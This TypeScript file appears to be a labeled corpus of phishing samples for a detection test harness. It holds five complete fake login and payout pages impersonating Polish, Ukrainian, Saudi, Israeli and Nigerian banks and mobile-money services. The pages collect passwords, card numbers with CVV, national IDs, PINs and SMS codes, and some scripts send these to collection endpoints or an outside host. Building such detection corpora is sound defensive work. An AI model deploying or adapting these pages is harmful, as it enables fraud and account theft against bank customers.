import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { assets, doc, gtag, jsonRoute, okApi, rtlCss } from '../parts/zi-kit.js';

// Bank and mobile-money credential/card kits seen from CEE, MENA and Africa.

export const entries: Entry[] = [
  {
    id: 'zi-bank-ipko-login-sms-pl',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://ipko-weryfikacja24.com.pl/logowanie/',
    body: doc({
      lang: 'pl',
      title: 'iPKO - Logowanie',
      css: '.top{background:#003574;color:#fff;padding:14px 28px;font-size:20px;font-weight:600}.box{max-width:420px;margin:48px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px #0002}label{display:block;font-size:13px;margin:14px 0 4px;color:#555}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px}button{margin-top:20px;width:100%;padding:12px;background:#003574;color:#fff;border:0;font-size:15px}.s2{display:none}.note{font-size:12px;color:#777;margin-top:18px}',
      body: `<div class="top"><img src="/img/logo.png" width="28" alt=""> PKO Bank Polski</div>
<div class="box">
 <h2>Logowanie do serwisu iPKO</h2>
 <form id="s1" autocomplete="off">
  <label>Numer klienta lub login</label><input name="login" required>
  <label>Hasło</label><input name="haslo" type="password" required>
  <button type="submit">Zaloguj</button>
 </form>
 <form id="s2" class="s2">
  <p>Na Twój numer telefonu wysłaliśmy kod SMS w celu potwierdzenia tożsamości. Wprowadź go poniżej, aby odblokować dostęp do konta.</p>
  <label>Kod SMS</label><input name="kod" inputmode="numeric" maxlength="8">
  <button type="submit">Potwierdź</button>
 </form>
 <p class="note">Pamiętaj: PKO Bank Polski nigdy nie prosi o podanie danych w wiadomości e-mail. Połączenie szyfrowane 256-bit.</p>
</div>
<script>
var sid=Math.random().toString(36).slice(2);
function send(d){return fetch('/api/p.php?sid='+sid,{method:'POST',body:JSON.stringify(d)})}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();send({l:this.login.value,p:this.haslo.value}).then(function(){document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'})};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();send({sms:this.kod.value}).then(function(){location.href='https://www.pkobp.pl/'})};
</script>`,
    }),
    routes: { ...assets('ipko-weryfikacja24.com.pl', [0, 53, 116]), ...okApi('ipko-weryfikacja24.com.pl', '/api/p.php') },
  },
  {
    id: 'zi-bank-privat24-payout-ua',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://privat24-vyplata.site/card/',
    body: doc({
      lang: 'uk',
      title: 'Приват24 — Отримання виплати',
      css: '.h{background:#8cc63f;padding:14px 24px;color:#fff;font-weight:700;font-size:20px}.c{max-width:460px;margin:30px auto;background:#fff;padding:24px;border-radius:10px;box-shadow:0 2px 8px #0001}input{width:100%;padding:11px;margin:5px 0 12px;border:1px solid #ccd;border-radius:6px}button{width:100%;padding:13px;background:#8cc63f;color:#fff;border:0;border-radius:6px;font-weight:700}.sum{font-size:28px;color:#2e7d32;font-weight:700}',
      body: `<div class="h">ПриватБанк</div>
<div class="c">
<p>Вам нараховано одноразову державну допомогу</p>
<div class="sum">6 500,00 ₴</div>
<p>Для зарахування коштів вкажіть дані картки будь-якого українського банку. Виплата надходить протягом 5 хвилин.</p>
<form id="f">
<input name="pan" placeholder="Номер картки" maxlength="19" autocomplete="cc-number">
<input name="exp" placeholder="ММ/РР">
<input name="cvv" placeholder="CVV2" maxlength="3">
<input name="phone" placeholder="+380">
<button>Отримати виплату</button>
</form>
<p style="font-size:12px;color:#888">Програма «єПідтримка». Залишилось виплат: <b id="left">137</b></p>
</div>
<script>
setInterval(function(){var l=document.getElementById('left');l.textContent=Math.max(3,+l.textContent-1)},4000);
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('https://gate.p24-callback.site/in',{method:'POST',mode:'no-cors',body:JSON.stringify(d)}).finally(function(){location.href='/card/3ds.html'})});
</script>`,
    }),
    routes: { 'gate.p24-callback.site/in': jsonRoute({ ok: 1 }), 'privat24-vyplata.site/card/3ds.html': htmlRoute('<!doctype html><html lang="uk"><meta charset="utf-8"><title>Підтвердження</title><p>Введіть код з SMS для підтвердження зарахування</p><input name="code"><button>Підтвердити</button></html>') },
  },
  {
    id: 'zi-bank-alrajhi-update-ar',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://alrajhi-tahdith.com/ar/login',
    body: doc({
      lang: 'ar',
      dir: 'rtl',
      title: 'مصرف الراجحي | تحديث البيانات',
      css: rtlCss + '.hd{background:#1d2b6f;color:#fff;padding:14px 26px;font-size:20px}.b{max-width:430px;margin:30px auto;background:#fff;padding:24px;border-radius:8px}input{width:100%;padding:11px;margin:5px 0 12px;border:1px solid #ccc;border-radius:5px}button{width:100%;padding:12px;background:#1d2b6f;color:#fff;border:0;border-radius:5px}.w{background:#fdecea;color:#b71c1c;padding:10px;border-radius:5px;font-size:14px}',
      body: `<div class="hd">مصرف الراجحي — المباشر للأفراد</div>
<div class="b">
<p class="w">عميلنا العزيز، تم إيقاف بطاقتك مؤقتاً لعدم تحديث بيانات الهوية الوطنية. يرجى التحديث خلال 24 ساعة لتجنب إيقاف الحساب.</p>
<form method="post" action="/ar/verify">
<label>اسم المستخدم</label><input name="user">
<label>كلمة المرور</label><input name="pass" type="password">
<label>رقم الهوية / الإقامة</label><input name="nid" maxlength="10">
<label>رقم الجوال</label><input name="mobile" placeholder="05xxxxxxxx">
<button>دخول</button>
</form>
<p style="font-size:12px;color:#777">جميع الحقوق محفوظة © مصرف الراجحي 2025 — خاضع لإشراف ورقابة البنك المركزي السعودي</p>
</div>`,
    }),
    routes: { 'alrajhi-tahdith.com/ar/verify': htmlRoute('<!doctype html><html lang="ar" dir="rtl"><meta charset="utf-8"><p>أدخل رمز التحقق المرسل إلى جوالك</p><form method="post" action="/ar/done"><input name="otp"><button>تأكيد</button></form></html>') },
  },
  {
    id: 'zi-bank-leumi-digital-he',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://leumi-digital-secure.co/login/',
    body: doc({
      lang: 'he',
      dir: 'rtl',
      title: 'בנק לאומי - כניסה לחשבון',
      css: rtlCss + '.h{background:#0a2d6e;color:#fff;padding:14px 28px;font-size:20px}.b{max-width:400px;margin:46px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;padding:11px;margin:5px 0 12px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:12px;background:#0a2d6e;color:#fff;border:0;border-radius:4px}.n{font-size:12px;color:#666}',
      body: `<div class="h">לאומי</div>
<div class="b">
<h2>כניסה לחשבון</h2>
<p class="n">לקוח יקר, עקב מצב החירום זוהתה פעילות חריגה בחשבונך. יש לאמת את פרטיך כדי להמשיך להשתמש בשירותים הדיגיטליים.</p>
<form method="post" action="step2.php">
<label>תעודת זהות</label><input name="tz" maxlength="9">
<label>קוד משתמש</label><input name="user">
<label>סיסמה</label><input name="pass" type="password">
<button>כניסה</button>
</form>
<p class="n">© בנק לאומי לישראל בע"מ | נגישות | אבטחת מידע</p>
</div>`,
    }),
    routes: { 'leumi-digital-secure.co/login/step2.php': htmlRoute('<!doctype html><html lang="he" dir="rtl"><meta charset="utf-8"><p>הזן את הקוד שנשלח ב-SMS</p><form method="post" action="step3.php"><input name="sms"><button>המשך</button></form></html>') },
  },
  {
    id: 'zi-bank-opay-account-upgrade-ha',
    label: 'phishing',
    kind: 'mobile-money-kit',
    url: 'https://opay-upgrade-ng.site/ha/tier3',
    body: doc({
      lang: 'ha',
      title: 'OPay - Haɓaka Asusunka zuwa Tier 3',
      css: '.h{background:#1dcf9f;color:#fff;padding:14px;text-align:center;font-size:22px;font-weight:700}.c{max-width:420px;margin:20px auto;background:#fff;padding:22px;border-radius:10px}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #bbb;border-radius:6px}button{width:100%;padding:12px;background:#1dcf9f;color:#fff;border:0;border-radius:6px;font-weight:700}',
      body: `<div class="h">OPay</div>
<div class="c">
<h3>Haɓaka asusunka zuwa Tier 3</h3>
<p>Bisa ga sabuwar dokar CBN, dole ne a haɗa BVN da NIN da asusunka kafin ranar Juma'a. Idan ba ka yi ba, za a rufe asusunka.</p>
<form id="f" method="post" action="/ha/save">
<input name="phone" placeholder="Lambar waya">
<input name="bvn" placeholder="BVN (lambobi 11)" maxlength="11">
<input name="pin" type="password" placeholder="PIN na ciniki (lambobi 4)" maxlength="4">
<input name="otp" placeholder="Lambar OTP">
<button>Ci gaba</button>
</form>
<p style="font-size:12px;color:#888">OPay Digital Services Limited — An ba da lasisi daga CBN. English | Hausa | Yorùbá</p>
</div>`,
    }),
    routes: { 'opay-upgrade-ng.site/ha/save': htmlRoute('<!doctype html><html lang="ha"><meta charset="utf-8"><p>An karɓi bayananka. Za a tuntuɓe ka nan ba da jimawa ba.</p></html>') },
  },
];
